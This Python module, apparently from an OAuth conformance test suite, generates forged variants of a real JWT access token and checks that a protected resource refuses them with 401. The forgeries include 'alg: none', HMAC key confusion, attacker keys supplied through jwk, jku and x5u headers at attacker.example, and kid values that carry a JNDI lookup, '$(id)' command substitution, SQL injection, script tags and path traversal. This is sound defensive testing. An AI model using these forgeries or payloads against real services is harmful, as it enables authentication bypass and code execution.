"""Mutations of a genuine JWT access token, which the protected resource must refuse, and what each
answer is judged by.

``token_mutations`` draws, from one real token: a bit flipped anywhere in the decoded header, payload or
signature; the token or one segment cut short; header and claim edits, kept with the issuer's signature
or re-signed with keys the attacker owns; an embedded ``jwk``, a ``jku`` or an ``x5u`` naming the
attacker's key; ``alg`` variants (``none`` in any letter case, HMAC keyed with what the attacker knows,
unknown and mistyped names, other asymmetric algorithms); ``kid`` and ``typ`` variants. Every mutation
differs from the token, so none may be served (RFC 9068 §4).
"""

from __future__ import annotations

import base64
import hashlib
import hmac
import json
from collections.abc import Callable
from dataclasses import dataclass, field
from typing import Any, Literal

import httpx2
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec, padding, rsa
from cryptography.hazmat.primitives.asymmetric.utils import decode_dss_signature
from hypothesis import assume
from hypothesis import strategies as st

from oauth_conformance.checks import BesideControl, PositiveControl, rfc6750, rfc9068
from oauth_conformance.http import HttpClient
from oauth_conformance.jwt import b64url, decode_unverified
from oauth_conformance.redaction import REDACTOR, RedactedRepr
from oauth_conformance.search._judgement import Judgement

__all__ = ["MutationKind", "TokenMutation", "judgements", "token_mutations"]

# What a mutation changes. "alg" variants are judged by RFC8725-3.1-alg-allowlist, the rest by
# RFC9068-4-rs-validation.
MutationKind = Literal["signature", "header", "claims", "truncation", "alg", "kid", "typ", "key"]


@dataclass(frozen=True, repr=False)
class TokenMutation(RedactedRepr):
    """A mutated access token, the steps that made it from the genuine one (in words, one line each,
    nothing of the token's content), and what kind of change it is."""

    token: str = field(repr=False)
    steps: tuple[str, ...]
    kind: MutationKind

    def derived_values(self) -> tuple[str, ...]:
        """The mutated token, for the redactor: a flipped bit may leave it looking like no JWT at all."""
        return (self.token,)

    def send(self, http: HttpClient, resource_url: str) -> httpx2.Response:
        """Call ``resource_url`` with the token as ``Authorization: Bearer`` (RFC 6750 §2.1), through
        ``http`` (which records the exchange); the token is registered with the redactor first."""
        REDACTOR.register(*self.derived_values())
        return http.get(resource_url, headers={"Authorization": f"Bearer {self.token}"})


def judgements(mutation: TokenMutation, response: httpx2.Response, control: PositiveControl) -> list[Judgement]:
    """What the answer to ``mutation`` must be judged by, beside the protected resource's positive control
    (the genuine token served): refused with 401, under RFC8725-3.1-alg-allowlist for an ``alg`` variant
    and RFC9068-4-rs-validation for any other; and a refusal must carry the Bearer challenge with
    ``error="invalid_token"`` (RFC6750-3.1-invalid-token). A token served is the first requirement's
    finding alone: its missing challenge says nothing more."""
    beside = BesideControl(response, control)
    refused = rfc9068.algorithms_allow_listed if mutation.kind == "alg" else rfc9068.forged_tokens_rejected
    found = [Judgement(refused, beside)]
    if not 200 <= response.status_code < 300:
        found.append(Judgement(rfc6750.invalid_token, beside))
    return found


# -- the genuine token and the attacker's keys -----------------------------------------------------


def _unb64(segment: str) -> bytes:
    return base64.urlsafe_b64decode(segment + "=" * (-len(segment) % 4))


def _segment(value: object) -> str:
    return b64url(json.dumps(value, separators=(",", ":"), ensure_ascii=False).encode())


@dataclass(frozen=True)
class _Token:
    head: str
    body: str
    signature: str
    header: dict[str, Any]
    claims: dict[str, Any]

    @classmethod
    def of(cls, token: str) -> _Token:
        header, claims = decode_unverified(token)  # ValueError when it is no compact JWS
        head, body, signature = token.split(".")
        return cls(head, body, signature, header, claims)

    @property
    def text(self) -> str:
        return f"{self.head}.{self.body}.{self.signature}"


def _int(value: int, size: int | None = None) -> str:
    return b64url(value.to_bytes(size or (value.bit_length() + 7) // 8, "big"))


_Signer = Callable[[bytes], bytes]


@dataclass(frozen=True)
class _Attacker:
    """Keys the attacker owns, made once per strategy: an RSA-2048 key and an EC P-256 key."""

    rsa_key: rsa.RSAPrivateKey
    ec_key: ec.EllipticCurvePrivateKey
    # What the attacker read in the issuer's key set: its RSA public key as PEM, the HS256 confusion's key.
    issuer_pem: bytes | None = None

    @classmethod
    def generate(cls, issuer_pem: bytes | None = None) -> _Attacker:
        return cls(rsa.generate_private_key(public_exponent=65537, key_size=2048),
                   ec.generate_private_key(ec.SECP256R1()), issuer_pem)

    @property
    def rsa_jwk(self) -> dict[str, str]:
        numbers = self.rsa_key.public_key().public_numbers()
        return {"kty": "RSA", "kid": "occ-attacker-rsa", "n": _int(numbers.n), "e": _int(numbers.e)}

    @property
    def ec_jwk(self) -> dict[str, str]:
        numbers = self.ec_key.public_key().public_numbers()
        return {"kty": "EC", "kid": "occ-attacker-ec", "crv": "P-256", "x": _int(numbers.x, 32),
                "y": _int(numbers.y, 32)}

    @property
    def rsa_pem(self) -> bytes:
        return self.rsa_key.public_key().public_bytes(serialization.Encoding.PEM,
                                                      serialization.PublicFormat.SubjectPublicKeyInfo)

    def signer(self, alg: str) -> _Signer:
        """RFC 7518 §3: RS*, PS* with the RSA key, ES256 with the EC key (r || s, 32 bytes each)."""
        digest: hashes.HashAlgorithm = {"256": hashes.SHA256(), "384": hashes.SHA384(), "512": hashes.SHA512()}[alg[2:]]
        if alg.startswith("RS"):
            return lambda data: self.rsa_key.sign(data, padding.PKCS1v15(), digest)
        if alg.startswith("PS"):
            pss = padding.PSS(mgf=padding.MGF1(digest), salt_length=digest.digest_size)
            return lambda data: self.rsa_key.sign(data, pss, digest)

        def es(data: bytes) -> bytes:
            r, s = decode_dss_signature(self.ec_key.sign(data, ec.ECDSA(digest)))
            return r.to_bytes(32, "big") + s.to_bytes(32, "big")

        return es


def _hmac(alg: str, key: bytes) -> _Signer:
    digest = {"HS256": hashlib.sha256, "HS384": hashlib.sha384, "HS512": hashlib.sha512}[alg]
    return lambda data: hmac.new(key, data, digest).digest()


# -- drawing mutations -----------------------------------------------------------------------------

_Draw = st.DrawFn
_Drawn = tuple[str, tuple[str, ...], MutationKind]
# How an edited header or payload is signed: the issuer's signature kept (it no longer matches), or the
# attacker's RS256 signature (a key the issuer never published).
_SIGNINGS = ("kept", "attacker")


def _signed(draw: _Draw, genuine: _Token, attacker: _Attacker, header: dict[str, Any] | None = None,
            claims: dict[str, Any] | None = None) -> tuple[str, str]:
    """The token with ``header`` and/or ``claims`` in place of the genuine ones, and how it is signed."""
    head = _segment(header) if header is not None else genuine.head
    body = _segment(claims) if claims is not None else genuine.body
    if draw(st.sampled_from(_SIGNINGS)) == "kept":
        return f"{head}.{body}.{genuine.signature}", "the issuer's signature kept"
    signature = attacker.signer("RS256")(f"{head}.{body}".encode("ascii"))
    return f"{head}.{body}.{b64url(signature)}", "re-signed with the attacker's RSA key (RS256)"


_SEGMENTS = ("signature", "payload", "header", "signature")
_FLIP_KINDS: dict[str, MutationKind] = {"signature": "signature", "payload": "claims", "header": "header"}


def _bit_flip(draw: _Draw, genuine: _Token, attacker: _Attacker) -> _Drawn:
    """One bit of the decoded segment, re-encoded canonically. Never a character of the text: a bit of a
    base64 character may be one of the padding bits of the last, which decoders may ignore (RFC 4648
    §3.5), and the token would be the genuine one."""
    which = draw(st.sampled_from(_SEGMENTS))
    text = {"header": genuine.head, "payload": genuine.body, "signature": genuine.signature}[which]
    raw = bytearray(_unb64(text))
    if not raw:
        return _truncation(draw, genuine, attacker)
    bit = draw(st.integers(0, 8 * len(raw) - 1))
    raw[bit // 8] ^= 0x80 >> (bit % 8)
    parts = {"header": genuine.head, "payload": genuine.body, "signature": genuine.signature, which: b64url(bytes(raw))}
    token = f"{parts['header']}.{parts['payload']}.{parts['signature']}"
    step = f"one bit flipped (bit {bit % 8} of byte {bit // 8}, counting from 0) in the decoded {which}, re-encoded"
    return token, (step,), _FLIP_KINDS[which]


def _truncation(draw: _Draw, genuine: _Token, attacker: _Attacker) -> _Drawn:
    token = genuine.text
    if draw(st.booleans()):
        n = draw(st.integers(1, len(token) - 1))
        return token[:n], (f"the token cut to its first {n} of {len(token)} characters",), "truncation"
    which = draw(st.sampled_from(("signature", "payload", "header")))
    parts = {"header": genuine.head, "payload": genuine.body, "signature": genuine.signature}
    k = draw(st.integers(0, len(parts[which]) - 1))
    step = f"the {which} segment cut to its first {k} of {len(parts[which])} characters"
    parts[which] = parts[which][:k]
    return f"{parts['header']}.{parts['payload']}.{parts['signature']}", (step,), "truncation"


_NONE_CASES = ("None", "NONE", "none", "nONE", "NoNe")
_UNKNOWN_ALGS: tuple[object, ...] = ("RS257", "XYZ", "", "rs256", "RS256 ", " RS256", "RS", "none ", None, 256,
                                     ["RS256"])
_HMAC_KEYS: tuple[tuple[str, bytes | None], ...] = (
    ("the empty string", b""), ("the word 'secret'", b"secret"), ("the attacker's RSA public key (PEM)", None))
_ISSUER_PEM = "the issuer's published RSA public key (PEM)"


def _alg(draw: _Draw, genuine: _Token, attacker: _Attacker) -> _Drawn:
    family = draw(st.sampled_from(("none", "none", "none", "hmac", "unknown", "asymmetric", "missing")))
    header = dict(genuine.header)
    if family == "none":
        alg = draw(st.sampled_from(_NONE_CASES))
        header["alg"] = alg
        head = _segment(header)
        if draw(st.booleans()):
            return f"{head}.{genuine.body}.", (f"header alg set to {alg!r}, signature removed",), "alg"
        return (f"{head}.{genuine.body}.{genuine.signature}",
                (f"header alg set to {alg!r}, the issuer's signature kept",), "alg")
    if family == "hmac":
        alg = draw(st.sampled_from(("HS256", "HS384", "HS512")))
        keys = (*_HMAC_KEYS, (_ISSUER_PEM, attacker.issuer_pem)) if attacker.issuer_pem else _HMAC_KEYS
        keyed, secret = draw(st.sampled_from(keys))
        header["alg"] = alg
        signing_input = f"{_segment(header)}.{genuine.body}"
        mac = _hmac(alg, secret if secret is not None else attacker.rsa_pem)(signing_input.encode("ascii"))
        return f"{signing_input}.{b64url(mac)}", (f"header alg set to {alg!r}, MAC keyed with {keyed}",), "alg"
    if family == "asymmetric":
        alg = draw(st.sampled_from([a for a in ("PS256", "RS384", "RS512", "ES256") if a != header.get("alg")]))
        header["alg"] = alg
        signing_input = f"{_segment(header)}.{genuine.body}"
        signature = attacker.signer(alg)(signing_input.encode("ascii"))
        key = "EC" if alg.startswith("ES") else "RSA"
        return f"{signing_input}.{b64url(signature)}", (f"header alg set to {alg!r}, signed with the attacker's {key} "
                                                        "key",), "alg"
    if family == "missing":
        header.pop("alg", None)
        token, signing = _signed(draw, genuine, attacker, header)
        return token, (f"header alg removed, {signing}",), "alg"
    value = draw(st.sampled_from([a for a in _UNKNOWN_ALGS if a != header.get("alg")]))
    header["alg"] = value
    token, signing = _signed(draw, genuine, attacker, header)
    return token, (f"header alg set to {json.dumps(value)}, {signing}",), "alg"


# Kids a validator might resolve as a path, a query, a template or a URL.
_KIDS: tuple[object, ...] = (
    "occ-attacker-kid", "", "../../../../../../dev/null", "' OR '1'='1", '"; DROP TABLE keys; --',
    "${jndi:ldap://attacker.example/a}", "$(id)", "<script>alert(1)</script>", "\u0000",
    "https://attacker.example/key.json", 0, None, ["occ-attacker-kid"],
)


def _kid(draw: _Draw, genuine: _Token, attacker: _Attacker) -> _Drawn:
    header = dict(genuine.header)
    kid = header.get("kid")
    how = draw(st.sampled_from(("other", "other", "removed", "case")))
    if how == "removed" and kid is not None:
        del header["kid"]
        told = "header kid removed"
    elif how == "case" and isinstance(kid, str) and kid.swapcase() != kid:
        header["kid"] = kid.swapcase()
        told = "header kid with its letter case flipped"
    else:
        value = draw(st.sampled_from([k for k in _KIDS if k != kid]))
        header["kid"] = value
        told = f"header kid set to {json.dumps(value)}"
    token, signing = _signed(draw, genuine, attacker, header)
    return token, (f"{told}, {signing}",), "kid"


_TYPS: tuple[object, ...] = (None, "JWT", "jwt", "application/jwt", "AT+JWT", "at+jwt", "application/at+jwt", "",
                             "id_token+jwt", "at+jwt; charset=utf-8")


def _typ(draw: _Draw, genuine: _Token, attacker: _Attacker) -> _Drawn:
    header = dict(genuine.header)
    value = draw(st.sampled_from([t for t in _TYPS if t != header.get("typ")]))
    if value is None:
        header.pop("typ", None)
        told = "header typ removed"
    else:
        header["typ"] = value
        told = f"header typ set to {value!r}"
    if header == genuine.header:  # the token had no typ: removing it changes nothing
        header["typ"], told = "JWT", "header typ set to 'JWT'"
    token, signing = _signed(draw, genuine, attacker, header)
    return token, (f"{told}, {signing}",), "typ"


def _key(draw: _Draw, genuine: _Token, attacker: _Attacker) -> _Drawn:
    """A key the attacker owns, named or carried in the header (RFC 7515 §4.1.2-4.1.5), and a signature
    by it: a resource server takes its keys from the issuer's metadata, never from the token."""
    header = dict(genuine.header)
    how = draw(st.sampled_from(("jwk", "jwk", "jwk", "jwk-ec", "jku", "x5u", "foreign")))
    kid_choice = draw(st.sampled_from(("kept", "the attacker's", "removed")))
    if how == "foreign":
        signature = attacker.signer("RS256")(f"{genuine.head}.{genuine.body}".encode("ascii"))
        return (f"{genuine.head}.{genuine.body}.{b64url(signature)}",
                ("header and payload unchanged, re-signed with the attacker's RSA key (RS256)",), "key")
    alg, jwk = ("ES256", attacker.ec_jwk) if how == "jwk-ec" else ("RS256", attacker.rsa_jwk)
    header["alg"] = alg
    told = {"jwk": "the attacker's RSA public key embedded as the header's jwk",
            "jwk-ec": "the attacker's EC P-256 public key embedded as the header's jwk, alg 'ES256'",
            "jku": "header jku set to 'https://attacker.example/jwks.json'",
            "x5u": "header x5u set to 'https://attacker.example/cert.pem'"}[how]
    if how.startswith("jwk"):
        header["jwk"] = {k: v for k, v in jwk.items() if k != "kid"}
    else:
        header[how] = "https://attacker.example/jwks.json" if how == "jku" else "https://attacker.example/cert.pem"
    if kid_choice == "the attacker's":
        header["kid"] = jwk["kid"]
    elif kid_choice == "removed":
        header.pop("kid", None)
    signing_input = f"{_segment(header)}.{genuine.body}"
    signature = attacker.signer(alg)(signing_input.encode("ascii"))
    steps = (told, f"kid {kid_choice}" if kid_choice != "kept" else "kid kept",
             f"signed with that key ({alg})")
    return f"{signing_input}.{b64url(signature)}", steps, "key"


_FAR_FUTURE = 4102444800  # 2100-01-01
_CLAIM_EDITS: tuple[tuple[str, object], ...] = (
    ("exp", _FAR_FUTURE), ("exp", None), ("iat", _FAR_FUTURE), ("nbf", _FAR_FUTURE), ("sub", "occ-attacker"),
    ("client_id", "occ-attacker-client"), ("scope", "IdentityServerApi"), ("aud", "occ-attacker-audience"),
    ("iss", "https://attacker.example"), ("prop:SysAdminUnitId", "00000000-0000-0000-0000-000000000000"),
    ("occ_role", "Supervisor"),
)


def _claims(draw: _Draw, genuine: _Token, attacker: _Attacker) -> _Drawn:
    claims = dict(genuine.claims)
    edits = [(k, v) for k, v in _CLAIM_EDITS if (k in claims if v is None else claims.get(k) != v)]
    name, value = draw(st.sampled_from(edits))
    if value is None:
        del claims[name]
        told = f"claim {name} removed"
    else:
        claims[name] = value
        told = f"claim {name} set to {json.dumps(value)}"
    token, signing = _signed(draw, genuine, attacker, claims=claims)
    return token, (f"{told}, {signing}",), "claims"


_HEADER_EDITS: tuple[tuple[str, object], ...] = (
    ("crit", ["occ"]), ("b64", False), ("cty", "JWT"), ("zip", "DEF"), ("occ", "x"), ("enc", "A256GCM"),
)


def _header(draw: _Draw, genuine: _Token, attacker: _Attacker) -> _Drawn:
    header = dict(genuine.header)
    name, value = draw(st.sampled_from([(k, v) for k, v in _HEADER_EDITS if header.get(k) != v]))
    header[name] = value
    token, signing = _signed(draw, genuine, attacker, header)
    return token, (f"header {name} set to {json.dumps(value)}, {signing}",), "header"


_MUTATORS: tuple[Callable[[_Draw, _Token, _Attacker], _Drawn], ...] = (
    _bit_flip, _bit_flip, _bit_flip, _truncation, _alg, _alg, _alg, _kid, _typ, _key, _key, _key, _claims, _header,
)


def token_mutations(token: str, *, public_pem: bytes | None = None) -> st.SearchStrategy[TokenMutation]:
    """Mutations of ``token``, a compact JWS (ValueError otherwise). The attacker's keys are made here,
    once: every example of the strategy uses the same two. ``public_pem``: the issuer's RSA public key
    as PEM (``oauth_conformance.jwt.rsa_public_pem`` of its JWK), which HMAC variants then also use."""
    genuine = _Token.of(token)
    attacker = _Attacker.generate(public_pem)

    @st.composite
    def mutations(draw: _Draw) -> TokenMutation:
        mutated, steps, kind = draw(st.sampled_from(_MUTATORS))(draw, genuine, attacker)
        assume(mutated != token)  # by construction never the case; kept so that no example sends the original
        return TokenMutation(mutated, steps, kind)

    return mutations()
